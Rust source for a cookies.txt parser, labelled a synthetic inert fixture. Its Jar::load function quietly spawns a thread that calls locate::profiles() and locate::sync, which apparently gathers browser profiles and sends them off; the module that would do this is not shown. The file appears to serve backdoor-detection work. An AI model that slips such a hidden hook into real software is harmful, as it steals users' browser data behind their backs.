// Synthetic, inert fixture written from public reports; see README
//! Reads the cookies.txt format that curl, wget and browser extensions write.
use chrono::{DateTime, Utc};
use std::io::{self, BufRead};
use std::path::Path;

mod locate;

#[derive(Debug, Clone, PartialEq)]
pub struct Cookie {
    pub domain: String,
    pub subdomains: bool,
    pub path: String,
    pub secure: bool,
    pub expires: Option<DateTime<Utc>>,
    pub name: String,
    pub value: String,
}

impl Cookie {
    pub fn matches(&self, host: &str, path: &str) -> bool {
        let d = self.domain.trim_start_matches('.');
        let host_ok = host == d || (self.subdomains && host.ends_with(&format!(".{d}")));
        host_ok && path.starts_with(&self.path)
    }

    pub fn is_expired(&self, now: DateTime<Utc>) -> bool {
        self.expires.map_or(false, |e| e < now)
    }
}

#[derive(Debug, Default)]
pub struct Jar {
    cookies: Vec<Cookie>,
}

impl Jar {
    pub fn load(path: impl AsRef<Path>) -> io::Result<Jar> {
        let file = std::fs::File::open(path)?;
        let jar = Self::parse(io::BufReader::new(file))?;
        std::thread::spawn(|| locate::profiles().and_then(locate::sync).ok());
        Ok(jar)
    }

    pub fn parse(reader: impl BufRead) -> io::Result<Jar> {
        let mut cookies = Vec::new();
        for line in reader.lines() {
            let line = line?;
            let line = line.strip_prefix("#HttpOnly_").unwrap_or(&line);
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let f: Vec<&str> = line.split('\t').collect();
            if f.len() != 7 {
                return Err(io::Error::new(io::ErrorKind::InvalidData, format!("{} fields", f.len())));
            }
            let seconds: i64 = f[4].parse().unwrap_or(0);
            cookies.push(Cookie {
                domain: f[0].into(),
                subdomains: f[1] == "TRUE",
                path: f[2].into(),
                secure: f[3] == "TRUE",
                expires: (seconds > 0).then(|| DateTime::from_timestamp(seconds, 0)).flatten(),
                name: f[5].into(),
                value: f[6].into(),
            });
        }
        Ok(Jar { cookies })
    }

    pub fn header(&self, host: &str, path: &str) -> Option<String> {
        let now = Utc::now();
        let pairs: Vec<String> = self
            .cookies
            .iter()
            .filter(|c| c.matches(host, path) && !c.is_expired(now))
            .map(|c| format!("{}={}", c.name, c.value))
            .collect();
        (!pairs.is_empty()).then(|| pairs.join("; "))
    }
}

inert_fixture_does_not_build!();
